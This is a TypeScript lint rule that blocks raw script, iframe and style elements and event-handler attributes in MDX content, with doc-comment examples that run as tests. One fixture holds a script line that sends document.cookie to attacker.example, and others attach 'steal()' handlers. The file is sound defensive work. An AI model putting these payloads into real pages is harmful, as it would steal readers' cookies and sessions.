/**
 * cet:no-raw-html — no `<script>`, `<iframe>` or `<style>`, whatever their
 * case, and no event handler attribute (`onclick`, `onError`…) on any
 * element or heading.
 *
 * Part of the build gate (`src/markdown/mdx-gate.ts`) as well as of
 * `npm run lint:content`. In the gate, cet:mdx-allowlist also refuses an HTML
 * element that is not one of these three, and an attribute is reported at
 * its element. remark-mdx cannot read a heading attribute, so there
 * `npm run lint:content` reports the file as unreadable.
 *
 * Examples (run as tests by tests/unit/lint/rule-examples.test.ts, which
 * describes the form):
 *
 * @example ok.mdx Markdown, and a component without a handler
 * ```mdx
 * ## Why this matters {#why}
 *
 * Write **Markdown** and <Term id="emb" />.
 * ```
 *
 * @example not-ok.mdx A script, an iframe and a style element
 * ```mdx
 * <script>fetch('https://attacker.example/?c=' + document.cookie)</script>
 *
 * <IFRAME src="https://results.example.org/live" />
 *
 * Results <style>table</style> follow.
 * ```
 * ```text
 * 1:1 RawHtmlElement: The <script> element is not allowed in content: it would run code in the reader's browser.
 * 3:1 RawHtmlElement: The <IFRAME> element is not allowed in content: it would load another site into the page.
 * 5:9 RawHtmlElement: The <style> element is not allowed in content: it would restyle the page outside the site's stylesheet.
 * ```
 *
 * @example not-ok-handlers.mdx Event handlers on a component and on an HTML element
 * ```mdx
 * Ask <Term id="emb" onClick="steal()" />.
 *
 * <img alt="The seal log" src="seal-log.png" onerror="steal()" />
 * ```
 * ```text
 * 1:20 EventHandlerAttribute: The attribute onClick on <Term> is an event handler, which would run code in the reader's browser.
 * 3:44 EventHandlerAttribute: The attribute onerror on <img> is an event handler, which would run code in the reader's browser.
 * ```
 * ```text gate
 * 3:1 DisallowedComponent: The HTML element <img> is not allowed in content; the components content may use are <Term>.
 * 1:5 EventHandlerAttribute: The attribute onClick on <Term> is an event handler, which would run code in the reader's browser.
 * 3:1 EventHandlerAttribute: The attribute onerror on <img> is an event handler, which would run code in the reader's browser.
 * ```
 *
 * @example not-ok-heading.mdx An event handler on a heading
 * ```mdx
 * ## Why this matters {#why onmouseover=steal()}
 * ```
 * ```text
 * 1:22 MdxSyntax: The MDX could not be read: Could not parse expression with acorn
 * ```
 * ```text gate
 * 1:1 EventHandlerAttribute: The attribute onmouseover on <h2> is an event handler, which would run code in the reader's browser.
 * ```
 */
import type { Root } from 'mdast';
import { lintRule } from 'unified-lint-rule';
import { visit } from 'unist-util-visit';
import type { Node } from 'unist';
import { report } from '../report.ts';
import { isHeading, isHtml, isJsxElement } from '../mdx-nodes.ts';

/** Elements that run code, load another site, or restyle the page; reported here, not as unknown components. */
export const RAW_HTML_ELEMENTS: readonly string[] = ['script', 'iframe', 'style'];

export const isRawHtmlElement = (name: string) => RAW_HTML_ELEMENTS.includes(name.toLowerCase());

/** `onclick`, `onError`, `on-load`…: anything that starts with "on" and would become an event handler. */
export const isEventHandler = (name: string) => /^on./i.test(name);

const noRawHtml = lintRule<Root>('cet:no-raw-html', (tree, file) => {
	visit(tree as Node, (node) => {
		if (isJsxElement(node)) {
			if (node.name && isRawHtmlElement(node.name)) report(file, node.position, 'RawHtmlElement', node.name);
			for (const attribute of node.attributes) {
				if (attribute.type === 'mdxJsxAttribute' && isEventHandler(attribute.name))
					report(file, attribute.position ?? node.position, 'EventHandlerAttribute', attribute.name, node.name ?? '');
			}
		} else if (isHeading(node)) {
			for (const name of Object.keys(node.data?.hProperties ?? {})) if (isEventHandler(name)) report(file, node.position, 'EventHandlerAttribute', name, `h${node.depth}`);
		} else if (isHtml(node)) {
			report(file, node.position, 'RawHtmlElement', /^<\s*([A-Za-z][\w:-]*)/.exec(node.value)?.[1] ?? 'html');
		}
	});
});

export default noRawHtml;
